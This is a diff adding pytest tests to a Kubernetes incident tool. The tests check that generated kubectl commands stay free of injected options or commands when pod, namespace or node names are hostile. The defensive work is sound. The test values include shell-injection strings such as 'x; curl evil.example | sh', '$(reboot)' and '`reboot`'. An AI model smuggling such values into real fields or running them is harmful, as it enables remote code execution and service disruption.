@@ -3,6 +3,7 @@
 import pytest
 
 from correlator.analysis.against import against
+from correlator.analysis.commands import word
 from correlator.analysis.tiers import tiers_words
 from correlator.model.finding import Advice
 from tests.factories import make_suspect, make_victim
@@ -76,3 +77,23 @@ def test_which_tier_hurt_which_is_said_where_both_are_known() -> None:
     assert tiers_words(VICTIM, (make_suspect(tier=VICTIM.tier),)).startswith("Both are of the tier model-inference")
     assert not tiers_words(make_victim(tier=""), (sandbox,))
     assert not tiers_words(VICTIM, (make_suspect(tier=""),))
+
+
+@pytest.mark.parametrize(
+    "name", ["--all", "x; curl evil.example | sh", "$(reboot)", "`reboot`", "a b", "x\ny", "'", "-", "x&"]
+)
+def test_a_name_gives_no_orders(name: str) -> None:
+    """Commands are there to be copied: a label that is no name of Kubernetes' is neither an option nor a command."""
+    for workload in ("", f"Job/{name}", f"Deployment/{name}"):
+        suspect = make_suspect(namespace=name, pod=name, tier="agentic-sandbox", workload=workload, node=name)
+        command = against(suspect, VICTIM, "n1/sda").command
+        words = command.replace(""" -p '{"spec":{"suspend":true}}'""", "").replace(" --replicas=0", "").split(" ")
+        assert set(words) <= {"kubectl", "-n", "NAME", "delete", "pod", "patch", "job", "scale", "deployment"}
+
+
+@pytest.mark.parametrize(
+    "name", ["vllm-0", "ip-10-0-0-1.ec2.internal", "10.0.0.1:9100", "Node_7", "deployment/vllm", ""]
+)
+def test_a_name_stays_itself(name: str) -> None:
+    """What Kubernetes and exporters call things is not touched."""
+    assert word(name) == name
